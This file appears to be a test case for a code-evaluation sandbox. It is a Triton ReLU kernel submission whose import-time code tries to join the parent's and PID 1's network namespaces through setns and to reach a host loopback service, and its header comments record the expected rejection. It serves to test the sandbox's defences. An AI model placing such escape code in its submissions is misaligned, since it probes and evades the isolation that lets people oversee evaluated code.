# exploit: at import joins the parent's network namespace (setns on /proc/<parent>/ns/net and /proc/1/ns/net through libc) and opens a TCP connection to a service on the host's loopback (127.0.0.1:48123), then raises with what happened.
# expect: static_reject:import
# behind-wall: compile_error
# note: behind the static wall, setns is refused (no capability over the parent's namespaces, and seccomp), and the jail's own network has only a downed loopback.
import ctypes
import os
import socket

import torch
import torch.nn as nn
import triton
import triton.language as tl

_libc = ctypes.CDLL("libc.so.6", use_errno=True)
_report = []
for _path in (f"/proc/{os.getppid()}/ns/net", "/proc/1/ns/net"):
    try:
        _fd = os.open(_path, os.O_RDONLY)
        _report.append(f"setns {_path}: {_libc.setns(_fd, 0x40000000)} errno {ctypes.get_errno()}")
    except OSError as error:
        _report.append(f"{_path}: {error}")
try:
    with socket.create_connection(("127.0.0.1", 48123), timeout=2) as _connection:
        _connection.sendall(b"kv-escaped-the-network-namespace")
        _report.append("connected")
except OSError as error:
    _report.append(f"connect: {error}")
raise RuntimeError("; ".join(_report))


@triton.jit
def relu_kernel(x_ptr, y_ptr, n_elements, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n_elements
    x = tl.load(x_ptr + offs, mask=mask, other=0.0)
    tl.store(y_ptr + offs, tl.maximum(x, 0.0), mask=mask)


def relu(x: torch.Tensor) -> torch.Tensor:
    y = torch.empty_like(x)
    relu_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, x.numel(), BLOCK=1024)
    return y


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return relu(x.contiguous())
